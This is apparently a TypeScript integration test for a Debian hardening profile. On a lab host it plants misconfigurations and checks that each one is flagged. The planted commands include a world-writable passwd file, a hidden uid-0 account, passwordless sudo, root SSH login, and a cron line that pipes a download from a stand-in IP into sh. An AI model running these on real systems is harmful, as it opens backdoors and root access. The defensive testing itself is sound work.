/**
 * The profile of Debian on a real host: what it objects to before and after misconfigurations were planted differs by
 * those, each under its control, and by nothing else. The host is looked at as one over SSH is: by its reader and by root.
 */
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { COLLECTORS, observeSnapshot } from '#collectors';
import { cisMaker } from '#declarations';
import { nodeClock } from '#machine';
import { type Host, labUnavailable, withHost } from '#test/lab';
import {
  aboutOf,
  NOW,
  objections,
  type SampleFact,
  shippedFiles,
} from '../src/declarations/cis/samples.ts';

const skip = await labUnavailable();
const HOST = join(import.meta.dirname, '..', 'host');
const TARGET = 'host:hard-1';

/** A machine under load may answer late, and then it says so; whatever it did not say is asked again. */
async function told(host: Host): Promise<readonly string[]> {
  for (let again = 0; ; again++) {
    const said = await toldOnce(host);
    if (again === 2 || !said.some((each) => each.startsWith('unknown '))) return said;
  }
}

async function toldOnce(host: Host): Promise<readonly string[]> {
  const script = await readFile(join(HOST, 'snapshot.sh'));
  const reader = ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups', '--', 'sh', '-s'];
  const parts = [
    await host.must(reader, { stdin: script }),
    await host.must(['sh', '/opt/holdfast/host/collect']),
  ];
  const looks = await observeSnapshot({
    target: TARGET,
    bytes: Buffer.from(parts.join('')),
    collectors: COLLECTORS,
    clock: nodeClock(),
  });
  const facts = looks.flatMap((look) =>
    look.facts.map((fact): SampleFact => [fact.entity, fact.attribute, fact.value]),
  );
  const short = looks.flatMap((look) => look.shortfalls.map(({ kind }) => kind));
  const about = aboutOf(facts, TARGET, NOW);
  const named = { name: 'debian-hardening-l2', at: 'declarations.yaml:2' };
  return objections(cisMaker.compile(shippedFiles(), named, about), facts, short);
}

/** What somebody does, and what the profile says of it. */
const PLANTED: readonly (readonly [does: string, objections: readonly string[]])[] = [
  ['chmod 0666 /etc/passwd', ['files.passwd file:hard-1//etc/passwd mode']],
  ['chown nobody /etc/group', ['files.group file:hard-1//etc/group owner']],
  ['useradd -o -u 0 -M toor', ['accounts.only-root-is-root user:hard-1/toor uid']],
  [
    'useradd -M open && usermod -p "" open',
    ['accounts.no-empty-passwords user:hard-1/open password.state'],
  ],
  [
    'printf "nobody ALL=(ALL) NOPASSWD: ALL\\nDefaults !authenticate\\n" >/etc/sudoers.d/own && chmod 0440 /etc/sudoers.d/own',
    [
      'sudo.authenticate sudo_rule:hard-1//etc/sudoers.d/own/Defaults !authenticate *',
      'sudo.no-nopasswd sudo_rule:hard-1//etc/sudoers.d/own/nobody noPassword',
    ],
  ],
  [
    'mkdir -p /etc/cron.d && echo "* * * * * root curl http://192.0.2.1/x | sh" >/etc/cron.d/own',
    ['cron.no-downloads cron_job:hard-1//etc/cron.d/own/… *'],
  ],
  [': >/etc/ld.so.preload', ['files.preload file:hard-1//etc/ld.so.preload *']],
  [
    'mkdir -p /etc/ssh/sshd_config.d && printf "PermitRootLogin yes\\nPermitEmptyPasswords yes\\n" >/etc/ssh/sshd_config.d/00-own.conf',
    [
      'ssh.empty-passwords sshd_setting:hard-1/permitemptypasswords value',
      'ssh.root-login sshd_setting:hard-1/permitrootlogin value',
    ],
  ],
];

describe('the hardening profile of Debian on a real host', { skip }, () => {
  it('objects to each misconfiguration that is planted, under its control, and to nothing else', async () => {
    await withHost('hard-1', async (host) => {
      // No daemon runs there, but its settings are asked for.
      await host.must(['sh', '-c', 'mkdir -p /run/sshd && ssh-keygen -A >/dev/null']);
      const before = await told(host);
      assert.ok(before.length > 20, 'a plain Debian is far from hardened');
      assert.deepEqual(
        before.filter((each) => each.startsWith('unknown ')),
        [],
      );
      for (const [does] of PLANTED) await host.must(['sh', '-c', does]);
      const now = (await told(host)).map((each) => each.replace(/\/[0-9a-f]{12} \*$/, '/… *'));
      assert.deepEqual(
        now.filter((each) => !before.includes(each)),
        PLANTED.flatMap(([, objected]) => objected).toSorted((a, b) => (a < b ? -1 : 1)),
      );
      assert.deepEqual(
        before.filter((each) => !now.includes(each)),
        [],
      );
    });
  });
});
